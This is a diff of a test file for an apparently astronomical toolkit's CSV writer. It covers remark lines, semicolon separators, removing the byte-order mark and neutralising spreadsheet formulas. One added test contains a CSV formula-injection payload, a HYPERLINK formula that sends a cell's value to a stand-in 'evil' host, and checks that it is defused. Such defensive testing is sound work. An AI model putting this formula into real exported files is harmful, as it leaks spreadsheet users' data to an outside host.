@@ -28,7 +28,7 @@ test('the CSV file says first where its numbers come from, one remark per line',
     ['Observer', 'G96'],
     ['Orbit', 'MPC\nepoch 2026'],
   ]);
-  expect(csv.slice(1).split('\r\n').slice(0, 3)).toEqual([
+  expect(csv.split('\r\n').slice(0, 3)).toEqual([
     '# Observer: G96',
     '# Orbit: MPC epoch 2026',
     'Object,JD_UTC [d],AST_DEC [deg]',
@@ -49,7 +49,7 @@ test('where numbers have a decimal comma semicolons separate them', () => {
       ['12 34 56.7', '–', '-0.25'],
     ],
   };
-  expect(writeCsv(table, [], 'semicolon').slice(1)).toBe(
+  expect(writeCsv(table, [], 'semicolon')).toBe(
     'Object;JD_UTC [d];AST_DEC [deg]\r\n"2024 a; b";2461372,50000;1,5e-7\r\n12 34 56.7;;-0,25\r\n',
   );
 });
@@ -64,8 +64,12 @@ test.each([
   expect(usualSeparator(language)).toBe(separator);
 });
 
-test('a spreadsheet is told that the CSV file is in UTF-8', () => {
-  expect(writeCsv(TABLE, []).codePointAt(0)).toBe(0xfeff);
+test('the CSV file is UTF-8 without a byte-order mark: a program finds the headings in the first line that is no remark', () => {
+  const csv = writeCsv(TABLE, [['Observer', 'G96']]);
+  expect(csv).not.toContain('\u{FEFF}');
+  const [head, first] = csv.split('\r\n').filter((line) => !line.startsWith('#'));
+  expect(head.split(',')).toEqual(['Object', 'JD_UTC [d]', 'AST_DEC [deg]']);
+  expect(first.split(',')).toHaveLength(3);
 });
 
 test.each([
@@ -78,6 +82,12 @@ test.each([
 ])('a spreadsheet calculates nothing of %s', (cell, written) => {
   const [, line] = writeCsv({ columns: [{ name: 'Object', unit: '' }], rows: [[cell]] }, []).split('\r\n');
   expect(line).toBe(written);
+});
+
+test('a remark is a remark to programs, and no part of it a formula to a spreadsheet', () => {
+  const name = 'a,=HYPERLINK("http://evil/?"&A1;"x")';
+  const [line] = writeCsv(TABLE, [[`Orbit of ${name}`, '32.44°, −110.79°; −5 km; +1+1']]).split('\r\n');
+  expect(line).toBe(`# Orbit of a,'=HYPERLINK('http://evil/?'&A1;'x'): 32.44°, -110.79°; '-5 km; '+1+1`);
 });
 
 test('a file is named after the toolkit and the time of the download', () => {
